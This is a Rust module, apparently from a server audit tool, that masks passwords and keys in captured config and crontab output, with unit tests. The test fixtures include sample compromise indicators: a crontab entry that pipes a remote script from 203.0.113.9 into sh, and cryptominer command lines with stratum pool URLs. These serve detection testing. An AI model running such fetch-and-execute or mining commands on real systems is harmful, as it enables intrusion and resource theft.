//! Redaction: secrets that a probe's output may hold but no check needs.
//!
//! A probe that dumps a config file for one purpose (Apache's access rules,
//! MySQL's bind address) carries whatever else the file holds: a
//! `SetEnv DB_PASSWORD`, a `[client] password`. Such a probe lists
//! `redact:` patterns. Each is applied to every line of the output as soon
//! as it arrives, and the text of each capture group is masked the way
//! every secret is (`S***********b`). No check sees the value, and
//! `--save-facts` cannot write it. Masking is idempotent: a line masked
//! once (saved facts read back by `replay`) is unchanged by a second pass.

use super::ProbeResult;
use crate::catalog::check::ProbeDef;
use crate::secret::Secret;
use regex::bytes::Regex;
use std::collections::BTreeMap;

/// Mask, in each probe's output, what its definition's `redact:` patterns
/// capture.
pub fn redact_all(results: &mut BTreeMap<String, ProbeResult>, defs: &BTreeMap<String, ProbeDef>) {
    for (id, result) in results.iter_mut() {
        if let Some(def) = defs.get(id) {
            if let Some(masked) = redact(&result.content, &def.redact) {
                result.content = masked;
            }
        }
    }
}

/// Passes over one line before giving up on a stable result (see
/// [`redact_line`]).
const MAX_PASSES: usize = 8;

/// `content` with every capture group of every match of `patterns` masked,
/// line by line; `None` when that changes nothing. Groups nested in or
/// overlapping an earlier group are covered by it.
pub fn redact(content: &[u8], patterns: &[Regex]) -> Option<Vec<u8>> {
    if patterns.is_empty() {
        return None;
    }
    let mut out: Option<Vec<u8>> = None;
    let mut start = 0;
    for line in content.split_inclusive(|&b| b == b'\n') {
        if let Some(masked) = redact_line(line, patterns) {
            out.get_or_insert_with(|| {
                let mut v = Vec::with_capacity(content.len());
                v.extend_from_slice(&content[..start]);
                v
            })
            .extend_from_slice(&masked);
        } else if let Some(out) = out.as_mut() {
            out.extend_from_slice(line);
        }
        start += line.len();
    }
    out
}

/// One line, masked until the patterns find nothing more to mask. A mask
/// can make a new match: `://u:MYSQL_PWD=a/b@` hides the `/` that kept the
/// URL pattern from matching. Each pass that changes the line turns at
/// least one character into `*`, so this ends; a line still changing after
/// [`MAX_PASSES`] is masked whole (every character a `*`), which no
/// pattern can change again.
fn redact_line(line: &[u8], patterns: &[Regex]) -> Option<Vec<u8>> {
    let mut current: Option<Vec<u8>> = None;
    for _ in 0..MAX_PASSES {
        let text = current.as_deref().unwrap_or(line);
        let spans = secret_spans(text, patterns);
        if spans.is_empty() {
            return current;
        }
        let masked = mask_spans(text, &spans);
        if masked == text {
            return current;
        }
        current = Some(masked);
    }
    let body_len = body(line).len();
    let stars = "*".repeat(String::from_utf8_lossy(&line[..body_len]).chars().count());
    let mut whole = stars.into_bytes();
    whole.extend_from_slice(&line[body_len..]);
    Some(whole)
}

/// `line` with each span replaced by its masked form.
fn mask_spans(line: &[u8], spans: &[(usize, usize)]) -> Vec<u8> {
    let mut out = Vec::with_capacity(line.len());
    let mut at = 0;
    for &(s, e) in spans {
        out.extend_from_slice(&line[at..s]);
        let value = String::from_utf8_lossy(&line[s..e]);
        out.extend_from_slice(Secret::new(value.as_ref()).masked().as_bytes());
        at = e;
    }
    out.extend_from_slice(&line[at..]);
    out
}

/// The line without its end, so that `$` and a greedy `.*` stop there.
fn body(line: &[u8]) -> &[u8] {
    let body = line.strip_suffix(b"\n").unwrap_or(line);
    body.strip_suffix(b"\r").unwrap_or(body)
}

/// The non-empty, non-overlapping byte ranges of `line` to mask, in order.
fn secret_spans(line: &[u8], patterns: &[Regex]) -> Vec<(usize, usize)> {
    let body = body(line);
    let mut spans: Vec<(usize, usize)> = Vec::new();
    for re in patterns {
        for caps in re.captures_iter(body) {
            spans.extend(
                caps.iter()
                    .skip(1)
                    .flatten()
                    .filter(|m| !m.is_empty())
                    .map(|m| (m.start(), m.end())),
            );
        }
    }
    spans.sort_unstable();
    let mut kept: Vec<(usize, usize)> = Vec::with_capacity(spans.len());
    for (s, e) in spans {
        match kept.last_mut() {
            Some(last) if s < last.1 => last.1 = last.1.max(e),
            _ => kept.push((s, e)),
        }
    }
    kept
}

#[cfg(test)]
mod tests {
    use super::*;

    fn re(p: &str) -> Regex {
        Regex::new(p).unwrap()
    }

    fn text(b: Option<Vec<u8>>) -> String {
        String::from_utf8(b.expect("something was masked")).unwrap()
    }

    #[test]
    fn groups_are_masked_and_everything_else_is_kept() {
        let apache = [
            re(r"(?i)^\|\s*SetEnv\s+\S*PASS\S*\s+(.+)$"),
            re(r"(?i)^\|\s*AuthLDAPBindPassword\s+(.+)$"),
        ];
        let input = "@file /etc/apache2/apache2.conf\n|ServerName www\n|  SetEnv DB_PASSWORD \"Seaways2017db\"\r\n|AuthLDAPBindPassword hunter22\n|Require ip 10.0.0.0/8";
        let out = text(redact(input.as_bytes(), &apache));
        assert_eq!(
            out,
            "@file /etc/apache2/apache2.conf\n|ServerName www\n|  SetEnv DB_PASSWORD \"*************\"\r\n|AuthLDAPBindPassword h******2\n|Require ip 10.0.0.0/8"
        );
        // Nothing to mask: nothing allocated, the caller keeps the bytes.
        assert_eq!(redact(b"|ServerName www\n", &apache), None);
        assert_eq!(redact(input.as_bytes(), &[]), None);
    }

    #[test]
    fn masking_twice_changes_nothing() {
        let p = [re(r"(?:^|\s)-p(\S+)"), re(r"(?i)^password\s*=\s*(.+)$")];
        let input = "crontab root /var/spool/cron/crontabs/root: 0 3 * * * mysqldump -uroot -pSeaways2017db shop\npassword = s3cr3t-Backup\n";
        let once = text(redact(input.as_bytes(), &p));
        assert!(!once.contains("Seaways2017db") && !once.contains("s3cr3t-Backup"));
        assert!(once.contains("-pS***********b shop"), "{once}");
        assert_eq!(redact(once.as_bytes(), &p), None);
    }

    #[test]
    fn a_mask_that_makes_a_new_match_is_masked_again() {
        // Masking the MYSQL_PWD value hides the `/` that kept the URL
        // pattern from matching: the line is masked until it is stable.
        let p = [
            re(r"\b(?:MYSQL_PWD|[A-Z_]*PASSWORD)=(\S+)"),
            re(r"://[^/\s:@]+:([^@\s/]+)@"),
        ];
        let once = text(redact(b"\t://-:MYSQL_PWD=password/@\n", &p));
        assert_eq!(once, "\t://-:M******************@\n");
        assert_eq!(redact(once.as_bytes(), &p), None);
        // Patterns that keep finding something new in their own masks
        // (here: any character before a `*`): after 8 passes the line
        // is masked whole, and stays so.
        let p = [re(r"([^*])\*")];
        let out = text(redact("abcdefghijklmnopq*rs\r\n".as_bytes(), &p));
        assert_eq!(out, format!("{}\r\n", "*".repeat(20)));
        assert_eq!(redact(out.as_bytes(), &p), None);
    }

    #[test]
    fn every_match_on_a_line_and_overlapping_groups() {
        let p = [
            re(r"://[^/\s:@]+:([^@\s/]+)@"),
            re(r"(?:--pass(?:word)?[= ])(\S+)"),
            re(r"--password=(\S{3})"),
        ];
        let out = text(redact(
            b"xmrig -o stratum+tcp://w:abcdef@pool:3333 --pass=xyzxyz --password=longvalue1 ftp://u:secondpw@h/",
            &p,
        ));
        assert_eq!(
            out,
            "xmrig -o stratum+tcp://w:a****f@pool:3333 --pass=x****z --password=l********1 ftp://u:s******w@h/"
        );
    }

    #[test]
    fn bytes_that_are_not_utf8_survive() {
        let p = [re(r"(?-u)pw=(\S+)")];
        let input = b"\xff\xfe pw=\xc3\x28abcdef \x80\n\xff";
        let out = redact(input, &p).unwrap();
        assert!(out.starts_with(b"\xff\xfe pw="), "{out:?}");
        assert!(out.ends_with(b" \x80\n\xff"), "{out:?}");
        assert!(!out.windows(6).any(|w| w == b"abcdef"), "{out:?}");
    }

    /// The built-in probes' patterns: the secrets each config can hold are
    /// masked, and the lines the checks read come through unchanged.
    #[test]
    fn built_in_probes_mask_their_secrets_and_nothing_the_checks_read() {
        let catalog = crate::catalog::Catalog::builtin().expect("built-in catalog");
        let run = |probe: &str, input: &str| -> String {
            let def = catalog.probes.get(probe).expect(probe);
            match redact(input.as_bytes(), &def.redact) {
                Some(b) => String::from_utf8(b).unwrap(),
                None => input.to_string(),
            }
        };
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "access.apache",
                "@file /etc/apache2/sites-enabled/shop.conf\n\
                 |  SetEnv DB_PASSWORD \"Seaways2017db\"\n\
                 |SetEnv APP_KEY base64:c2VjcmV0LWFwcC1rZXk=\n\
                 |AuthLDAPBindPassword \"ldap-Bind-pw9\"\n\
                 |php_admin_value mysql.default_password Seaways2017db\n\
                 |php_value mysqli.default_pw \"Mysqli-pw-77\"\n\
                 |DBDParams \"host=db dbname=auth user=apache pass=Dbd-pass-42\"\n\
                 |ProxyPass /app http://svc:Proxy-pw-31@10.0.0.5:8080/\n\
                 |php_value session.save_path \"tcp://10.0.0.9:6379?auth=Redis-pw-55\"\n",
                &[
                    "Seaways2017db",
                    "c2VjcmV0LWFwcC1rZXk",
                    "ldap-Bind-pw9",
                    "Mysqli-pw-77",
                    "Dbd-pass-42",
                    "Proxy-pw-31",
                    "Redis-pw-55",
                ],
            ),
            (
                "access.mysql",
                "@file /etc/my.cnf.d/backup.cnf\n|[mysqldump]\n|user=backup\n|password = Nightly-Dump-2017\n|[client]\n|pass=Client-pw-12 \n",
                &["Nightly-Dump-2017", "Client-pw-12"],
            ),
            (
                "ftp.other.conf",
                "== /etc/proftpd/sql.conf\nSQLConnectInfo proftpd@localhost proftpd Sql-pw-2017\n\
                 SQLNamedConnectInfo logdb mysql logs@db logger Named-pw-8\n\
                 LDAPBindDN \"cn=ftp,dc=example,dc=jp\" Ldap-pw-3\n\
                 RadiusAuthServer 10.0.0.2:1812 Radius-secret-4 5\n",
                &["Sql-pw-2017", "Named-pw-8", "Ldap-pw-3", "Radius-secret-4"],
            ),
            (
                "ioc.crontabs",
                "crontab root /var/spool/cron/crontabs/root: 0 3 * * * mysqldump -ubooking -pSeaways2017db booking\n\
                 crontab root /var/spool/cron/crontabs/root: 0 4 * * * sshpass -p Sshpass-pw-6 scp /b host:\n\
                 crontab root /var/spool/cron/crontabs/root: 0 5 * * * curl -u backup:Curl-pw-7 -T /b ftp://h/\n\
                 crontab root /var/spool/cron/crontabs/root: 0 6 * * * MYSQL_PWD=Env-pw-8 mysql --password=Opt-pw-9 x\n\
                 crontab root /var/spool/cron/crontabs/root: 0 7 * * * lftp -c 'open ftp://up:Url-pw-10@h'\n",
                &[
                    "Seaways2017db",
                    "Sshpass-pw-6",
                    "Curl-pw-7",
                    "Env-pw-8",
                    "Opt-pw-9",
                    "Url-pw-10",
                ],
            ),
            (
                "ioc.processes",
                "miner 4242 nobody /tmp/.x/p -o stratum+tcp://wallet:Pool-pw-1@pool:3333 -p Pool-pw-2 --donate-level 1\n",
                &["Pool-pw-1", "Pool-pw-2"],
            ),
        ];
        for (probe, input, secrets) in cases {
            let out = run(probe, input);
            for s in *secrets {
                assert!(!out.contains(s), "{probe}: {s} is still there:\n{out}");
            }
            assert_eq!(out.lines().count(), input.lines().count(), "{probe}");
        }
        // What the checks read stays exactly as written.
        let kept: &[(&str, &str)] = &[
            (
                "access.apache",
                "@file /etc/apache2/apache2.conf\n|Listen 80\n|<Location /phpmyadmin>\n|  Require ip 10.0.0.0/8\n|  AuthType Basic\n|  AuthUserFile /etc/apache2/.htpasswd\n|</Location>\n|SetEnvIf Request_URI \\.php$ php\n|DocumentRoot \"/var/www/html\"\n",
            ),
            (
                "access.mysql",
                "@file /etc/mysql/my.cnf\n|[mysqld]\n|bind-address = 0.0.0.0\n|port=3306\n|skip-networking\n|!includedir /etc/mysql/conf.d/\n",
            ),
            (
                "ftp.other.conf",
                "== /etc/proftpd/proftpd.conf\nPassivePorts 49152 65534\nAnonRequirePassword off\n<Anonymous ~ftp>\nDefaultRoot ~\nTLSRequired on\n",
            ),
            (
                "ioc.crontabs",
                "crontab nobody /var/spool/cron/crontabs/nobody: * * * * * /usr/local/share/man/.cache/.x/upd >/dev/null 2>&1\n\
                 crontab www-data /var/spool/cron/crontabs/www-data: */5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\
                 crontab root /var/spool/cron/crontabs/root: @reboot mkdir -p /run/app\n",
            ),
            (
                "ioc.processes",
                "hidden 4242 nobody /usr/local/share/man/.cache/.x/p\npoolport 10.0.0.1:40000 203.0.113.5:3333\n",
            ),
        ];
        for (probe, input) in kept {
            assert_eq!(&run(probe, input), input, "{probe}");
        }
    }
}
